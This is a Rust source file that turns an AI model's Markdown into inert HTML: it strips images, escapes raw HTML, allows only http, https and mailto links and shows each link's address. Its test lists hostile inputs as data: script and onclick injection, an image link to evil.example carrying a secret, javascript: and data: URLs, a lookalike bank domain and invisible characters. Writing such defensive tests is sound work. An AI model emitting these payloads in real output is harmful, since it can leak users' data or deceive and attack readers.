//! Renders the model's Markdown as inert HTML: no raw HTML, no images (loading one would send data to its server), and
//! only absolute http, https and mailto links, each followed by its address.

use pulldown_cmark::{CowStr, Event, LinkType, Options, Parser, Tag, TagEnd, html};
use text::prose;

/// Renders `text` as sanitized HTML.
pub(super) fn html(text: &str) -> String {
    let mut links = Vec::new();
    let text = &prose(text);
    let events = Parser::new_ext(text, Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TABLES);
    let safe = events.flat_map(|event| sanitized(event, &mut links)).collect::<Vec<_>>();
    let mut page = String::with_capacity(text.len() * 2);
    html::push_html(&mut page, safe.into_iter());
    page
}

/// An open link: its address, or `None` if only its text is kept.
type Open<'a> = Option<CowStr<'a>>;

fn sanitized<'a>(event: Event<'a>, links: &mut Vec<Open<'a>>) -> Vec<Event<'a>> {
    match event {
        Event::Html(raw) | Event::InlineHtml(raw) => vec![Event::Text(raw)],
        Event::Start(Tag::HtmlBlock) => vec![Event::Start(Tag::Paragraph)],
        Event::End(TagEnd::HtmlBlock) => vec![Event::End(TagEnd::Paragraph)],
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => Vec::new(),
        Event::Start(Tag::Link { dest_url, .. }) => {
            let address = harmless(&dest_url);
            links.push(address.clone());
            address.map(|dest_url| Event::Start(link(dest_url))).into_iter().collect()
        }
        Event::End(TagEnd::Link) => match links.pop().flatten() {
            // The text of a link can claim anything, so its address is shown as well.
            Some(address) => vec![Event::End(TagEnd::Link), Event::Text(format!(" ({address})").into())],
            None => Vec::new(),
        },
        Event::Start(Tag::Heading { .. }) => vec![Event::Start(Tag::Paragraph), Event::Start(Tag::Strong)],
        Event::End(TagEnd::Heading(_)) => vec![Event::End(TagEnd::Strong), Event::End(TagEnd::Paragraph)],
        other => vec![other],
    }
}

fn link(dest_url: CowStr<'_>) -> Tag<'_> {
    Tag::Link { link_type: LinkType::Inline, dest_url, title: CowStr::Borrowed(""), id: CowStr::Borrowed("") }
}

/// Returns the address in the ASCII form in which a browser requests it, so that no character is invisible or looks
/// like another; `None` for a scheme that is not allowed.
fn harmless<'a>(address: &str) -> Option<CowStr<'a>> {
    let url = url::Url::parse(address).ok()?;
    matches!(url.scheme(), "https" | "http" | "mailto").then(|| String::from(url).into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attack_41_markdown_becomes_inert_html() {
        for (text, expected) in [
            ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
            ("# Big", "<p><strong>Big</strong></p>"),
            ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
            ("a <b onclick=x>b</b>", "<p>a &lt;b onclick=x&gt;b&lt;/b&gt;</p>\n"),
            ("![seen](https://evil.example/?secret)", "<p>seen</p>\n"),
            ("[ok](https://a.example/x)", "<p><a href=\"https://a.example/x\">ok</a> (https://a.example/x)</p>\n"),
            (
                "[ok](https://a.example/?q=\u{e0049}\u{200b})",
                "<p><a href=\"https://a.example/?q=%F3%A0%81%89%E2%80%8B\">ok</a> (https://a.example/?q=%F3%A0%81%89%E2%80%8B)</p>",
            ),
            (
                "[bank](https://b\u{430}nk.example)",
                "<p><a href=\"https://xn--bnk-6cd.example/\">bank</a> (https://xn--bnk-6cd.example/)</p>",
            ),
            ("[x](javascript:alert(1))", "<p>x</p>\n"),
            ("[x](JaVaScRiPt:alert(1))", "<p>x</p>\n"),
            ("[x](data:text/html,x)", "<p>x</p>\n"),
            ("[x](/auth/logout)", "<p>x</p>\n"),
            ("[x](//evil.example)", "<p>x</p>\n"),
        ] {
            assert_eq!(html(text).trim(), expected.trim(), "{text}");
        }
    }
}
